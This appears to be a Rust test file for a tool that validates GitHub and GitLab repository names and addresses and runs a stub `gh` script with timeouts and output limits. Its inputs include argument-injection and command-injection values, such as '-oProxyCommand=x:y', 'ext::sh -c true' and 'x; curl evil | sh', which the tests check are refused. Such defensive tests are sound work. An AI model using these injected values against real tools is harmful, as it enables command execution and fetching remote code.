//! Names and addresses: what is understood, and what is refused before any tool is asked. And how a tool is run: `gh` is a script
//! here, that misbehaves in one way at a time.

use std::process::Command;
use std::sync::atomic::AtomicBool;
use std::time::{Duration, Instant};

use super::name::{Service, in_address, is_host, is_https_address, is_ssh_address, parse};
use super::{Resolved, resolve};
use crate::config::{Config, Environment, Paths};
use crate::core::progress::Silent;
use crate::core::questions::Nobody;
use crate::engine::{Context, SystemClock};
use crate::error::{Kind, Result};

#[test]
fn names_follow_the_rules_of_their_host() {
    let path = |text: &str| parse(text).map(|name| name.map(|name| name.path()));
    for (text, expected) in [
        ("github:sessions", "sessions"),
        ("github:me/sessions", "me/sessions"),
        ("github:me-2/my.sessions_1", "me-2/my.sessions_1"),
        ("github:ana_company/x", "ana_company/x"),
        ("gitlab:sessions", "sessions"),
        ("gitlab:group/sub.group/_deep/x", "group/sub.group/_deep/x"),
    ] {
        assert_eq!(path(text).unwrap().as_deref(), Some(expected), "{text}");
    }
    for text in [
        "github:",
        "github:/x",
        "github:me/",
        "github:a/b/c",
        "github:-me/x",
        "github:me-/x",
        "github:m--e/x",
        "github:me/-x",
        "github:me/..",
        "github:me/.",
        "github:me/x.git",
        "github:me/x y",
        "github:me/x?y",
        "github:me/%2e%2e",
        "github:{owner}/x",
        "github:me/x\n",
        "github:--hostname=evil",
        "gitlab:-x",
        "gitlab:a//b",
        "gitlab:a/../b",
        "gitlab:a/b.atom",
        "gitlab::id",
        "gitlab:ä/b",
    ] {
        let error = parse(text).unwrap_err();
        assert_eq!(error.kind().exit_code(), 2, "{text}");
        assert!(!error.to_string().contains('\n'));
    }
    for text in [
        "git@github.com:me/x.git",
        "https://github.com/me/x",
        "/srv/github:x",
        "./github:x",
        "GitHub:me/x",
        "x",
        "",
    ] {
        assert_eq!(parse(text).unwrap(), None, "{text}");
    }
}

#[test]
fn addresses_at_the_two_hosts_are_known() {
    let known = |url: &str| in_address(url).map(|name| (name.service, name.path()));
    for url in [
        "https://github.com/me/x",
        "https://github.com/me/x.git",
        "https://me@GitHub.com/me/x.git",
        "git@github.com:me/x.git",
        "github.com:me/x",
        "ssh://git@github.com/me/x.git",
    ] {
        assert_eq!(known(url), Some((Service::GitHub, "me/x".to_owned())), "{url}");
    }
    assert_eq!(
        known("https://gitlab.com/a/b/c.git"),
        Some((Service::GitLab, "a/b/c".to_owned()))
    );
    for url in [
        "https://github.com.evil.org/me/x",
        "https://evil.org/github.com/me/x",
        "https://github.com/x",
        "file:///github.com/me/x",
        "http://github.com/me/x",
        "git@work:me/x.git",
        "/srv/x.git",
    ] {
        assert_eq!(known(url), None, "{url}");
    }
}

#[test]
fn only_an_address_at_the_same_host_is_taken_for_https() {
    assert!(is_https_address("https://github.com/me/x.git", "github.com"));
    assert!(is_https_address("https://localhost:8443/me/x.git", "localhost:8443"));
    for url in [
        "http://github.com/me/x.git",
        "https://github.com.evil.org/me/x.git",
        "https://github.com@evil.org/me/x.git",
        "https://token@github.com/me/x.git",
        "https://github.com:444/me/x.git",
        "https://github.com//x",
        "https://github.com/",
        "https://github.com/me/x.git?y",
        "ext::sh -c true",
        "",
    ] {
        assert!(!is_https_address(url, "github.com"), "{url}");
    }
}

#[test]
fn only_a_plain_address_is_taken_for_ssh() {
    for url in ["git@github.com:me/x.git", "ssh://git@host:2222/me/x.git", "host:x.git"] {
        assert!(is_ssh_address(url, ""), "{url}");
    }
    // Where the host is known, so is its address for SSH. The name may be one of the person's SSH configuration.
    assert!(is_ssh_address("git@github.com:me/x.git", "github.com"));
    assert!(is_ssh_address("ssh://git@ssh.gitlab.com:443/me/x.git", "gitlab.com"));
    for url in [
        "git@evil.org:me/x.git",
        "git@work:me/x.git",
        "git@evilgithub.com:me/x.git",
    ] {
        assert!(!is_ssh_address(url, "github.com"), "{url}");
    }
    for url in [
        "git@-oProxyCommand=x:y",
        "-oProxyCommand=x:y",
        "ssh://-oProxyCommand=x/y",
        "ext::sh -c true",
        "git@host:-x",
        "git@host:x y",
        "a:b@host:x",
        "/srv/x",
        "",
    ] {
        assert!(!is_ssh_address(url, ""), "{url}");
    }
}

#[test]
fn hosts_are_names_and_ports() {
    for host in ["github.com", "localhost:8443", "git.example.org"] {
        assert!(is_host(host), "{host}");
    }
    for host in ["", "-x", "a b", "a/b", "http://x", "x:y", "x:99999", ".x"] {
        assert!(!is_host(host), "{host}");
    }
}

/// What `resolve` makes of `url` where `gh` is this script; the configured timeouts are a second each. And whether it was run.
fn resolved(url: &str, script: &str, allow_public: bool, stop: bool) -> (Result<Resolved>, bool) {
    let folder = tempfile::tempdir().unwrap();
    let gh = folder.path().join("gh");
    let ran = folder.path().join("ran");
    // Written by another process: a program that a thread of this one holds open for writing cannot be started.
    let written = Command::new("sh")
        .args(["-c", "printf %s \"$1\" >\"$0\" && chmod 755 \"$0\""])
        .arg(&gh)
        .arg(format!("#!/bin/sh\n: >{}\n{script}\n", ran.display()))
        .status();
    assert!(written.unwrap().success());
    let path = format!("{}:/usr/bin:/bin", folder.path().display());
    let environment = Environment::new(folder.path(), [("PATH", path)]);
    let paths = Paths::from_environment(&environment);
    let mut config = Config::load(&environment, &paths, &[]).unwrap();
    config.timeouts.connect = Duration::from_secs(1);
    config.timeouts.idle = Duration::from_secs(1);
    let context = Context {
        config,
        paths,
        environment,
        clock: &SystemClock,
        progress: &Silent,
        questions: &Nobody,
        stop: &AtomicBool::new(stop),
        lock_wait: Duration::ZERO,
    };
    let resolved = resolve(&context, url, allow_public);
    (resolved, ran.exists())
}

/// A script that answers so to every question of the API.
fn answers(status: &str, body: &str) -> String {
    format!("printf 'HTTP/2.0 {status}\\nServer: x\\r\\n\\r\\n%s' '{body}'")
}

#[test]
fn an_address_at_a_host_is_refused_only_where_the_host_says_clearly_that_others_can_read_it() {
    const OPEN: &str = r#"{"full_name":"me/x","private":false,"visibility":"public","archived":false}"#;
    const CLOSED: &str = r#"{"full_name":"me/x","private":true,"visibility":"private","archived":false}"#;
    for url in ["https://github.com/me/x", "git@github.com:me/x.git"] {
        let (refused, _) = resolved(url, &answers("200 OK", OPEN), false, false);
        let error = refused.unwrap_err();
        assert_eq!(error.to_string(), "me/x on github.com is public: everybody can read it");
        let (allowed, ran) = resolved(url, &answers("200 OK", OPEN), true, false);
        assert_eq!((allowed.unwrap().url.as_str(), ran), (url, false));
        for script in [
            answers("200 OK", CLOSED).as_str(),
            &answers("200 OK", "<html>"),
            &answers("404 Not Found", "{}"),
            &answers("401 Unauthorized", "{}"),
            &answers("500 Oh", "{}"),
            "exit 4",
            "exec sleep 60",
        ] {
            let (taken, ran) = resolved(url, script, false, false);
            assert_eq!((taken.unwrap().url.as_str(), ran), (url, true), "{script}");
        }
    }
    // The others are nobody's business.
    for url in ["https://git.example.org/me/x", "/srv/x.git", "git@work:me/x.git"] {
        let (taken, ran) = resolved(url, &answers("200 OK", OPEN), false, false);
        assert_eq!((taken.unwrap().url.as_str(), ran), (url, false));
    }
}

/// What a host says of itself ends up in questions, in paths of its API, and in commands that a person is told to run.
#[test]
fn what_a_host_says_is_no_command_and_no_path() {
    for login in ["../../evil", "x; curl evil | sh", "-x", ""] {
        let body = serde_json::json!({ "login": login }).to_string();
        let (failed, _) = resolved("github:x", &answers("200 OK", &body), false, false);
        let error = failed.unwrap_err();
        let why = "is not understood: it gives whoever is signed in a name that none can have";
        assert!(error.to_string().contains(why), "{login}: {error}");
    }
    let body = serde_json::json!({
        "login": "me", "full_name": "me/x$(curl evil)", "private": true, "visibility": "private", "archived": false,
    });
    let (failed, _) = resolved("github:me/x", &answers("200 OK", &body.to_string()), false, false);
    let error = failed.unwrap_err();
    let told = format!("{error} {}", error.hint_text().unwrap_or_default());
    assert!(!told.contains("curl"), "{told}");
}

#[test]
fn p29_a_tool_that_never_ends_is_ended() {
    let start = Instant::now();
    for script in ["exec sleep 60", "yes", "sleep 60 & exit 0"] {
        let (failed, _) = resolved("github:me/x", script, false, false);
        let error = failed.unwrap_err();
        assert_eq!(error.kind(), Kind::Network, "{error}");
        assert_eq!(error.to_string(), "gh did not answer within 2 seconds");
    }
    assert!(start.elapsed() < Duration::from_secs(30));
}

#[test]
fn a_signal_ends_the_wait_for_a_tool() {
    let start = Instant::now();
    let (failed, _) = resolved("github:me/x", "exec sleep 60", false, true);
    assert_eq!(failed.unwrap_err().kind(), Kind::Interrupted);
    assert!(start.elapsed() < Duration::from_secs(30));
}

#[test]
fn of_what_a_tool_says_no_more_is_kept_than_is_sensible() {
    let flood = "head -c 5000000 /dev/zero | tr '\\0' x; head -c 5000000 /dev/zero | tr '\\0' y >&2; exit 1";
    let (failed, _) = resolved("github:me/x", flood, false, false);
    let error = failed.unwrap_err().to_string();
    assert!(error.starts_with("gh cannot ask github.com: yyy"), "{error}");
    assert!(error.len() < 400, "{}", error.len());
}
